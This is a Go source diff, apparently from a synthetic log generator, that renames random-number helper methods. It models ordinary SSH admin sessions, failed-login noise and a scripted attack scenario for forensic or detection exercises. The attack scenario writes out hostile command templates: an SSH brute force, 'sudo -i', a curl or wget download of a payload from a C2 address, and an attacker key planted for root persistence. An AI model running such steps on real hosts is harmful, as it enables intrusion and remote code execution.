@@ -63,7 +63,7 @@ type linuxPlan struct {
 // pidAt gives process ids that grow with time since boot, as on a real host: about three processes a
 // second, so events in different seconds never share a pid, wrapping at the kernel's pid_max.
 func (p *plan) pidAt(r *rng, t time.Time) int {
-	return 1000 + (int(t.Sub(p.boot)/time.Second)*3+r.intn(3))%4_190_000
+	return 1000 + (int(t.Sub(p.boot)/time.Second)*3+r.Intn(3))%4_190_000
 }
 
 func (p *plan) planLinux() *linuxPlan {
@@ -80,21 +80,21 @@ func (p *plan) planLinux() *linuxPlan {
 			if weekend {
 				chance /= 5
 			}
-			if !r.chance(chance) {
+			if !r.Chance(chance) {
 				continue
 			}
-			for range r.between(1, 2) {
+			for range r.Between(1, 2) {
 				start := day.Add(r.dur(7*time.Hour+30*time.Minute, 18*time.Hour))
 				if !start.Before(p.now) {
 					continue
 				}
 				s := &sshSession{user: u, from: jump, method: "publickey", keyFP: u.keyFP, start: start,
-					port: r.between(40000, 65000)}
-				if r.chance(30) {
+					port: r.Between(40000, 65000)}
+				if r.Chance(30) {
 					s.from = p.neighbour(r)
 				}
 				c := &clock{t: start, r: r}
-				for range r.between(2, 7) {
+				for range r.Between(2, 7) {
 					cmd := pick(r, p.adminCommands())
 					for !u.admin && strings.HasPrefix(cmd, "sudo") { // sudo would refuse them, and log it
 						cmd = pick(r, p.adminCommands())
@@ -130,7 +130,7 @@ func (p *plan) planLinux() *linuxPlan {
 // assignTTYs gives each session the lowest free pts number, a logind session id in login order and an
 // sshd pid, as the kernel, logind and the process table would.
 func (p *plan) assignTTYs(r *rng, ss []*sshSession) {
-	logind := r.between(3, 40)
+	logind := r.Between(3, 40)
 	var busy []*sshSession
 	for _, s := range ss {
 		busy = slices.DeleteFunc(busy, func(b *sshSession) bool { return !b.end.IsZero() && !b.end.After(s.start) })
@@ -184,11 +184,11 @@ func (p *plan) noiseFailures() []attempt {
 	for t := p.start.Add(r.dur(time.Hour, 9*time.Hour)); t.Before(p.now); t = t.Add(r.dur(2*time.Hour, 14*time.Hour)) {
 		ip := publicIP(r)
 		c := &clock{t: t, r: r}
-		for range r.between(1, 4) {
+		for range r.Between(1, 4) {
 			name := pick(r, names)
 			at := c.step(time.Second, 40*time.Second)
 			out = append(out, attempt{t: at, user: name, invalid: p.userNamed(name) == nil && name != "root",
-				from: ip, port: r.between(30000, 65000), pid: p.pidAt(r, at)})
+				from: ip, port: r.Between(30000, 65000), pid: p.pidAt(r, at)})
 		}
 	}
 	return out
@@ -213,19 +213,19 @@ func (p *plan) planLinuxAttack() {
 	invalid := []string{"admin", "test", "user", "ubuntu", "oracle", "postgres", "guest", "ftpuser", "support",
 		"dev", "jenkins", "git", "tomcat"}
 	c := &clock{t: st.BruteForceStart, r: r}
-	n := r.between(25, 140)
+	n := r.Between(25, 140)
 	for i := range n {
 		at := c.t
 		if i > 0 {
 			at = c.step(time.Second, 7*time.Second)
 		}
 		name, bad := target.name, false
-		if r.chance(35) && i < n-5 {
+		if r.Chance(35) && i < n-5 {
 			name = pick(r, invalid)
 			bad = p.userNamed(name) == nil
 		}
 		p.linuxAttempts = append(p.linuxAttempts, attempt{t: at, user: name, invalid: bad, from: st.AttackerIP,
-			port: r.between(32768, 60999), pid: p.pidAt(r, at)})
+			port: r.Between(32768, 60999), pid: p.pidAt(r, at)})
 	}
 	st.Failures = n
 	st.FirstSuccess = c.step(2*time.Second, 9*time.Second)
@@ -240,7 +240,7 @@ func (p *plan) planLinuxAttack() {
 	st.AuthorizedKey = a.keyLine
 
 	s := &sshSession{user: target, from: st.AttackerIP, method: "password", start: st.FirstSuccess,
-		port: r.between(32768, 60999), clearHist: true}
+		port: r.Between(32768, 60999), clearHist: true}
 	sc := &clock{t: s.start, r: r}
 	typ := func(cmd string) { s.cmds = append(s.cmds, timedCmd{sc.step(2*time.Second, 40*time.Second), cmd}) }
 	root := func(cmd string) {
@@ -255,7 +255,7 @@ func (p *plan) planLinuxAttack() {
 	typ("sudo -i")
 	root("cd " + dir)
 	url := fmt.Sprintf("http://%s/%s", a.c2IP, strings.TrimPrefix(name, "."))
-	if r.chance(50) {
+	if r.Chance(50) {
 		root("curl -fsSL " + url + " -o " + a.payPath)
 	} else {
 		root("wget -q " + url + " -O " + a.payPath)
@@ -306,7 +306,7 @@ func (p *plan) planLinuxAttack() {
 
 	// The key pays off: hours later the attacker comes back as root, no password needed.
 	back := &sshSession{user: &user{name: "root", uid: 0}, from: st.AttackerIP, method: "publickey",
-		start: s.end.Add(r.dur(5*time.Hour, 20*time.Hour)), port: r.between(32768, 60999)}
+		start: s.end.Add(r.dur(5*time.Hour, 20*time.Hour)), port: r.Between(32768, 60999)}
 	bc := &clock{t: back.start, r: r}
 	back.keyFP = keyFingerprint(a.keyLine)
 	for _, cmd := range []string{"ps aux | grep " + strings.TrimPrefix(name, "."), "ls -la " + dir, "last -n 20"} {
